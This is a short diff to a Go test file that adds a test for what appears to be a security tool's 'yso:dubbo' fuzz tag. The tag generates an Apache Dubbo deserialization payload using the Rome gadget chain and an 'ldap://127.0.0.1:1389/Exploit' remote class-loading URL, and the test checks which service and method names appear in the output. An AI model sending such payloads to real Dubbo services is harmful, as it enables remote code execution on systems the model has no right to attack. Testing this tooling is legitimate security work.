@@ -440,3 +440,12 @@ func TestFlowControlTag(t *testing.T) {
 	require.NoError(t, err)
 	require.Len(t, results, 12)
 }
+
+func TestYsoDubboFuzzTag(t *testing.T) {
+	results, err := FuzzTagExec(`{{yso:dubbo(com.example.UserService|queryUser|Rome|ldap://127.0.0.1:1389/Exploit)}}`)
+	require.NoError(t, err)
+	require.Len(t, results, 1)
+	require.Contains(t, results[0], "com.example.UserService")
+	require.Contains(t, results[0], "queryUser")
+	require.NotContains(t, results[0], "org.apache.dubbo.demo.DemoService")
+}